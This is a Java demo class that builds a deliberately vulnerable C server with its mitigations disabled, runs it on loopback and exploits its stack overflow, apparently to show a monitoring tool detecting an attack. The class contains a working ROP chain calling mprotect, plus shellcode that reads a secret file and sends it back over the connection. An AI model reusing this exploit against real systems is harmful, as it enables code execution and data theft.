// SPDX-License-Identifier: Apache-2.0
package tagwatch.demo;

import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStream;
import java.io.InputStreamReader;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Random;
import java.util.concurrent.TimeUnit;
import tagwatch.elf.ElfTagWriter;

/**
 * The small C server with a real overflow: compiled here, tagged, started, used, and exploited
 * without any exec.
 */
final class Gateway implements AutoCloseable {
  /** Its tag. */
  static final int TAG = 13109;

  private static final int COPY = 64;

  /** More saved registers than any compiler puts between the copy and the return address. */
  private static final int SLED = 12;

  private static final int TIMEOUT_MS = 3_000;

  private final Path executable;
  private final Path data;
  private Process process;
  private int port;
  private long request;
  private long gadget;
  private long mprotect;

  private Gateway(Path executable, Path data) {
    this.executable = executable;
    this.data = data;
  }

  /** Compiles it into the folder, without the mitigations that would stop this attack. */
  static Gateway build(Path folder) throws IOException, DemoException, InterruptedException {
    Path source = folder.resolve("gateway.c");
    try (InputStream in = Gateway.class.getResourceAsStream("gateway/gateway.c")) {
      Files.copy(in, source);
    }
    Path executable = folder.resolve("gateway");
    Process compiler =
        new ProcessBuilder(
                "gcc",
                "-O1",
                "-no-pie",
                "-fno-stack-protector",
                "-fcf-protection=none",
                "-U_FORTIFY_SOURCE",
                "-o",
                executable.toString(),
                source.toString())
            .redirectErrorStream(true)
            .start();
    String said =
        new String(compiler.getInputStream().readAllBytes(), StandardCharsets.UTF_8).strip();
    if (compiler.waitFor() != 0) {
      throw new DemoException("gcc cannot compile the vulnerable server: " + said);
    }
    ElfTagWriter.set(executable, TAG);
    Path data = Files.createDirectories(folder.resolve("files"));
    for (int i = 0; i < 8; i++) {
      Files.writeString(data.resolve("file" + i + ".txt"), "line of file\n".repeat(1 + 37 * i));
    }
    return new Gateway(executable, data);
  }

  Watched watched() {
    return new Watched(executable, TAG);
  }

  /** Starts it, or starts it anew if it has ended. */
  void start() throws IOException, DemoException {
    if (process != null && process.isAlive()) {
      return;
    }
    try (ServerSocket free = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
      port = free.getLocalPort();
    }
    process =
        new ProcessBuilder(executable.toString(), Integer.toString(port), data.toString()).start();
    BufferedReader said =
        new BufferedReader(
            new InputStreamReader(process.getInputStream(), StandardCharsets.US_ASCII));
    String line = said.readLine();
    String[] words = line == null ? new String[0] : line.split(" ", -1);
    if (words.length != 3) {
      throw new DemoException("the vulnerable server does not start: '" + line + "'");
    }
    request = Long.parseUnsignedLong(words[0], 16);
    gadget = Long.parseUnsignedLong(words[1], 16);
    mprotect = Long.parseUnsignedLong(words[2], 16);
  }

  /** So many benign requests; gives how many were not answered. */
  int use(int count, long seed) throws IOException {
    Random random = new Random(seed);
    int failed = 0;
    for (int i = 0; i < count; i++) {
      String line =
          switch (random.nextInt(10)) {
            case 0 -> "GET missing" + random.nextInt(5) + ".txt\n";
            case 1 -> "HELLO\n";
            case 2, 3, 4 -> put("note" + random.nextInt(4), 1 + random.nextInt(COPY));
            default -> "GET file" + random.nextInt(8) + ".txt\n";
          };
      failed += talk(line.getBytes(StandardCharsets.US_ASCII)).isEmpty() ? 1 : 0;
    }
    return failed;
  }

  private static String put(String name, int length) {
    return "PUT " + name + ".txt " + length + "\n" + "n".repeat(length);
  }

  /** Exploits the hole; what the injected code read out and sent. It ends the server. */
  String exploit(Path secret) throws IOException {
    String said = talk(payload(secret));
    // else a start that follows at once would find the old one still there
    process.onExit().completeOnTimeout(process, TIMEOUT_MS, TimeUnit.MILLISECONDS).join();
    return said;
  }

  /**
   * A content that overwrites the return address of {@code put}: a sled of returns, then registers
   * for mprotect of the page with the request, mprotect, and the code behind it.
   */
  private byte[] payload(Path secret) {
    int words = COPY + 8 * (SLED + 6);
    String head = "PUT x.txt " + words + "\n";
    int code = head.length() + words;
    ByteBuffer bytes = ByteBuffer.allocate(code + 256).order(ByteOrder.LITTLE_ENDIAN);
    bytes.put(head.getBytes(StandardCharsets.US_ASCII));
    for (int i = 0; i < COPY; i++) {
      bytes.put((byte) 'n');
    }
    for (int i = 0; i < SLED; i++) {
      // behind the three pops: a bare return
      bytes.putLong(gadget + 3);
    }
    bytes.putLong(gadget).putLong(request).putLong(8192).putLong(7);
    bytes.putLong(mprotect).putLong(request + code);
    code(bytes, secret);
    return bytes.array();
  }

  /** open, read, write to the connection, exit. */
  private void code(ByteBuffer bytes, Path secret) {
    long path = request + bytes.capacity() - 128;
    long buffer = request + 4096;
    bytes.put(hex("b802000000 48bf")).putLong(path).put(hex("31f6 0f05"));
    bytes.put(hex("89c7 31c0 48be")).putLong(buffer).put(hex("ba00100000 0f05"));
    bytes.put(hex("89c2 bf04000000 b801000000 0f05"));
    bytes.put(hex("b8e7000000 31ff 0f05"));
    bytes.position(bytes.capacity() - 128);
    bytes.put(secret.toString().getBytes(StandardCharsets.UTF_8));
  }

  private static byte[] hex(String text) {
    return java.util.HexFormat.of().parseHex(text.replace(" ", ""));
  }

  private String talk(byte[] bytes) throws IOException {
    try (Socket socket = new Socket(InetAddress.getLoopbackAddress(), port)) {
      socket.setSoTimeout(TIMEOUT_MS);
      socket.getOutputStream().write(bytes);
      return new String(Received.all(socket.getInputStream()), StandardCharsets.UTF_8);
    }
  }

  @Override
  public void close() {
    if (process != null) {
      process.destroyForcibly();
      try {
        process.waitFor(2, TimeUnit.SECONDS);
      } catch (InterruptedException e) {
        Thread.currentThread().interrupt();
      }
    }
  }
}
